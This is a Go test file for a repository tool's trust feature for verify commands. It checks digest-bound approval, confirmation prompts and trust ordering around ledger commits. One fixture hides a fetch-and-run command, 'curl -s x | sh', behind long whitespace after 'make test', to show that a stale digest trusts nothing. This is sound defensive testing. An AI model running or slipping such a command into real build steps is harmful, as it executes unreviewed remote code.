package ops

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/git-atlas/git-atlas/gitstate"
	"github.com/git-atlas/git-atlas/internal/fault"
	"github.com/git-atlas/git-atlas/ledger"
	"github.com/git-atlas/git-atlas/trust"
)

// untrustAll forgets what this repository trusts of run r1: as if it had arrived by
// pull.
func (f *wtFixture) untrustAll() {
	f.t.Helper()
	if _, err := f.ops.TrustRevoke(f.ctx, TrustRevokeRequest{Run: "r1"}); err != nil {
		f.t.Fatal(err)
	}
}

// Headless, --yes trusts exactly the commands whose digest the person read: without
// --digest it is a usage error naming the flag; a job verify added after the
// listing changes the digest, and then nothing at all is trusted (exit 3).
func TestTrustYesNeedsTheDigestOfWhatWasRead(t *testing.T) {
	t.Parallel()
	f := newWTFixture(t, ledger.KindGraph)
	if _, err := f.ops.JobAdd(f.ctx, JobAddRequest{Run: "r1", Job: "a", Verify: "make test", Driver: d1}); err != nil {
		t.Fatal(err)
	}
	f.untrustAll()
	list, err := f.ops.TrustList(f.ctx, TrustListRequest{Run: "r1"})
	if err != nil || len(list.Runs) != 1 || len(list.Runs[0].Digest) != 64 {
		t.Fatalf("trust --list r1: %+v %v", list, err)
	}
	read := list.Runs[0].Digest

	_, err = f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Yes: true})
	if !errors.Is(err, fault.ErrUsage) || !strings.Contains(err.Error(), "digest") {
		t.Fatalf("--yes without --digest: %v; want a usage error naming --digest", err)
	}

	// After the person read the list, a second verify arrives (a pull, a job add).
	if _, err := f.ops.JobAdd(f.ctx, JobAddRequest{Run: "r1", Job: "b", Verify: "make test                                                                                                    && curl -s x | sh", Driver: d1}); err != nil {
		t.Fatal(err)
	}
	f.untrustAll()
	_, err = f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Yes: true, Digest: read})
	if !errors.Is(err, fault.ErrConflict) {
		t.Fatalf("--digest of an older list: %v; want a conflict", err)
	}
	cmds, _ := trust.Check(f.ctx, f.ops.Repo, f.load())
	for _, c := range cmds {
		if c.Trusted {
			t.Fatalf("a stale digest trusted %+v", c)
		}
	}

	now, _ := f.ops.TrustList(f.ctx, TrustListRequest{Run: "r1"})
	res, err := f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Yes: true, Digest: "SHA256:" + strings.ToUpper(now.Runs[0].Digest)})
	if err != nil || res.Digest != now.Runs[0].Digest || len(res.Commands) != 2 {
		t.Fatalf("--digest of the current list: %+v %v", res, err)
	}
	cmds, _ = trust.Check(f.ctx, f.ops.Repo, f.load())
	for _, c := range cmds {
		if !c.Trusted {
			t.Fatalf("not trusted after --yes --digest: %+v", c)
		}
	}
}

// A person at a terminal is shown every command and confirms; a "no" trusts nothing.
func TestTrustConfirmSeesEveryCommand(t *testing.T) {
	t.Parallel()
	f := newWTFixture(t, ledger.KindGraph)
	for _, j := range []string{"a", "b"} {
		if _, err := f.ops.JobAdd(f.ctx, JobAddRequest{Run: "r1", Job: j, Verify: "check " + j, Driver: d1}); err != nil {
			t.Fatal(err)
		}
	}
	f.untrustAll()
	var shown []TrustCommand
	_, err := f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Confirm: func(_ string, _ []TrustHeaderText, cmds []TrustCommand, n int) (bool, error) {
		shown = cmds
		return false, nil
	}})
	if !errors.Is(err, fault.ErrRefused) || len(shown) != 2 || shown[1].Command != "check b" {
		t.Fatalf("declined: %v, shown %+v", err, shown)
	}
	if cmds, _ := trust.Check(f.ctx, f.ops.Repo, f.load()); cmds[0].Trusted || cmds[1].Trusted {
		t.Fatalf("a declined trust recorded: %+v", cmds)
	}
}

// The digest is of exactly the run's commands and text: their order in the run does
// not matter, a changed command, place, run, intent or header text does; trust does
// not.
func TestTrustDigest(t *testing.T) {
	t.Parallel()
	r := &ledger.Header{RunID: "r"}
	a := []trust.Command{{Where: "job a", Command: "x"}, {Where: "job b", Command: "y", Trusted: true}}
	b := []trust.Command{{Where: "job b", Command: "y"}, {Where: "job a", Command: "x"}}
	if trust.Digest(r, a) != trust.Digest(r, b) {
		t.Fatal("the digest depends on the order or on trust")
	}
	for _, other := range [][]trust.Command{
		{{Where: "job a", Command: "x"}},
		{{Where: "job a", Command: "x"}, {Where: "job b", Command: "y "}},
		{{Where: "job a", Command: "x"}, {Where: "job c", Command: "y"}},
		{{Where: "job a", Command: "x\njob b"}, {Where: "", Command: "y"}},
	} {
		if trust.Digest(r, other) == trust.Digest(r, a) {
			t.Fatalf("%+v has the digest of %+v", other, a)
		}
	}
	for _, h := range []*ledger.Header{
		{RunID: "r2"},
		{RunID: "r", Intent: "fix it"},
		{RunID: "r", Criteria: []string{"tests pass"}},
		{RunID: "r", ManagedBy: "someone"},
		{RunID: "r", Stages: []ledger.StageDef{{Name: "code", Scope: []string{"src/**"}}}},
	} {
		if trust.Digest(h, a) == trust.Digest(r, a) {
			t.Fatalf("%+v and %+v share a digest", h, r)
		}
	}
}

// start --verify and job add --verify write the trust of the run's own commands
// before the ledger commit that carries them: at the moment each ref moved (the stop
// point a kill there would leave) every command the run then carries is trusted. A
// write that fails leaves nothing trusted.
func TestOwnCommandsTrustedBeforeTheLedgerMoves(t *testing.T) {
	t.Parallel()
	f := newWTFixture(t, ledger.KindGraph)
	type seen struct {
		run       string
		untrusted []string
	}
	var stops []seen
	f.ops.ledgerMoved = func(ctx context.Context, s *gitstate.Store) {
		for _, id := range []string{"r1", "s"} {
			r, err := s.Load(ctx, id)
			if err != nil {
				continue
			}
			cmds, err := trust.Check(ctx, s.Repo, r)
			if err != nil {
				t.Error(err)
			}
			st := seen{run: id}
			for _, c := range cmds {
				if !c.Trusted {
					st.untrusted = append(st.untrusted, c.Where+": "+c.Command)
				}
			}
			stops = append(stops, st)
		}
	}
	if _, err := f.ops.Start(f.ctx, StartRequest{ID: "s", Stages: ledger.StagesFromList("code"), Verify: "make check", Driver: d1}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.ops.JobAdd(f.ctx, JobAddRequest{Run: "r1", Job: "a", Verify: "make test", Driver: d1}); err != nil {
		t.Fatal(err)
	}
	if len(stops) < 2 {
		t.Fatalf("the stop point ran %d times", len(stops))
	}
	for _, st := range stops {
		if len(st.untrusted) > 0 {
			t.Errorf("when the ledger of run %s moved, its own commands were untrusted: %v", st.run, st.untrusted)
		}
	}

	// Failed writes trust nothing: a start whose run exists, a job add refused.
	f.ops.ledgerMoved = nil
	if _, err := f.ops.Start(f.ctx, StartRequest{ID: "r1", Verify: "echo other", Driver: d1}); err == nil {
		t.Fatal("start of an existing run succeeded")
	}
	if _, err := f.ops.JobAdd(f.ctx, JobAddRequest{Run: "r1", Job: "a", Verify: "echo again", Driver: d1}); err == nil {
		t.Fatal("job add of an existing job succeeded")
	}
	set, err := trust.Load(f.ctx, f.ops.Repo, "r1")
	if err != nil {
		t.Fatal(err)
	}
	if set.Trusts("echo other") || set.Trusts("echo again") || !set.Trusts("make test") {
		t.Fatalf("after failed writes: echo other %v, echo again %v, make test %v", set.Trusts("echo other"), set.Trusts("echo again"), set.Trusts("make test"))
	}
}

// A run that carries no command can still be vouched for headless: `trust --list RUN`
// names it with the digest that `trust RUN --yes --digest D` needs (before, the list
// was empty and --yes without a digest refused, so nothing could vouch for it).
func TestTrustListNamesARunWithoutCommands(t *testing.T) {
	t.Parallel()
	f := newWTFixture(t, ledger.KindSingle, "code")
	list, err := f.ops.TrustList(f.ctx, TrustListRequest{Run: "r1"})
	if err != nil || len(list.Runs) != 1 || list.Runs[0].RunID != "r1" || list.Runs[0].Commands == nil || len(list.Runs[0].Digest) != 64 {
		t.Fatalf("trust --list r1 of a run without commands: %+v %v", list, err)
	}
	if all, err := f.ops.TrustList(f.ctx, TrustListRequest{}); err != nil || len(all.Runs) != 0 {
		t.Fatalf("trust --list (no run named) lists a run without commands: %+v %v", all, err)
	}
	if _, err := f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Yes: true, Digest: list.Runs[0].Digest}); err != nil {
		t.Fatalf("trust r1 --yes --digest: %v", err)
	}
	if !trust.NewIntents(f.ops.Repo).Vouched(f.ctx, "r1", f.load().Header.Intent) {
		t.Fatal("the run was not vouched for")
	}
}
